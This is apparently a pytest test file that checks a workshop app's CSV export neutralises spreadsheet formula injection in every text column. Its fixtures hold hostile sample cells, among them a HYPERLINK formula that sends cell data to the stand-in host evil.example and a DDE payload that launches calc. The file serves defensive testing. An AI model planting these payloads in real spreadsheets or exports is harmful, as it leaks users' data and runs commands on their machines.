"""Issue case 13: no cell of a CSV export runs as a formula in a spreadsheet.

The workshop date column was not neutralised (`=HYPERLINK(…)` on every row), the guard
for `\\r` never applied because cleaning had turned it into `\\n` first, and a space
before `=` was not caught. The guard applies to every text column, after cleaning and
after leading white space.
"""

from __future__ import annotations

import csv
import io

import pytest
from hostile_files import run

from workshop_app.core.store import WorkshopFile
from workshop_app.report.csv import COLUMNS, THEME_COLUMNS

LINK = '=HYPERLINK("https://evil.example/?d="&A1,"Klicka")'
#: Formula-like starts: each one reaches the spreadsheet as a formula unless neutralised.
STARTS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1:A9)",
    "space": " =1+1",
    "spaces and tab": " \t =cmd|' /C calc'!A0",
    "no-break space": "\u00a0=1+1",
    "carriage return": "\r=1+1",
    "line break": "\n=1+1",
    "tab": "\t=1+1",
    "bare tab": "\tnot a formula, but a tab first",
    "bare carriage return": "\rnot a formula, but a line break first",
    "cr lf": "\r\n@SUM(1)",
}
#: The columns our own code fills with numbers.
NUMBERS = {"is_quote", "theme_votes", "votes", "notes", "divided"}


def _is_formula(cell: str) -> bool:
    return cell[:1] in ("\t", "\r", "\n") or cell.lstrip()[:1] in ("=", "+", "-", "@")


@pytest.fixture
def hostile_series(tmp_path):
    path = tmp_path / "formler.samla"
    with WorkshopFile.create(path, title=LINK) as wf:
        perspective = wf.add("perspectives", name="@SUM(A1)", plural=" =2+2").rows[0].id
        workshop = wf.add("workshops", title=" =1+1", date=LINK).rows[0].id
        other = wf.add("workshops", title="\r+1", date="\r=2021-03-15").rows[0].id
        question = wf.add("questions", perspective_id=perspective, text="\r=cmd").rows[0].id
        theme = wf.add("themes", question_id=question, title="-1").rows[0].id
        for name, text in STARTS.items():
            for w in (workshop, other):
                wf.add_note(question, w, f"{text} ({name})", theme_id=theme)
                wf.add_note(question, w, f"{text} ({name}, unclustered)")
    return path


def _rows(path, tmp_path, *flags, kind="--csv") -> list[dict]:
    out = tmp_path / "notes.csv"
    code, _out, err = run("export", path, kind, out, *flags)
    assert code == 0, err
    data = out.read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(data, newline="")))


@pytest.mark.parametrize("bom", [False, True])
def test_no_cell_of_any_text_column_starts_a_formula(hostile_series, tmp_path, bom):
    rows = _rows(hostile_series, tmp_path, *(["--bom"] if bom else []))
    assert len(rows) == 4 * len(STARTS)
    for row in rows:
        for column in COLUMNS:
            if column in NUMBERS:
                continue
            cell = row[column]
            assert not _is_formula(cell) or cell.startswith("'"), (column, cell)
            if cell.startswith("'"):
                assert _is_formula(cell[1:]), f"only formula starts are marked: {cell!r}"


def test_the_text_stays_recoverable_behind_the_apostrophe(hostile_series, tmp_path):
    rows = _rows(hostile_series, tmp_path)
    texts = {row["text"] for row in rows}
    for name, start in STARTS.items():
        cleaned = start.replace("\r\n", "\n").replace("\r", "\n")
        assert f"'{cleaned} ({name})" in texts, name
    assert {row["date"] for row in rows} == {"'" + LINK, "'\n=2021-03-15"}
    assert {row["series"] for row in rows} == {"'" + LINK}


def test_no_cell_of_the_per_theme_csv_starts_a_formula(hostile_series, tmp_path):
    rows = _rows(hostile_series, tmp_path, kind="--themes-csv")
    assert rows, "one row per theme"
    for row in rows:
        for column in THEME_COLUMNS:
            if column not in NUMBERS:
                cell = row[column]
                assert not _is_formula(cell) or cell.startswith("'"), (column, cell)
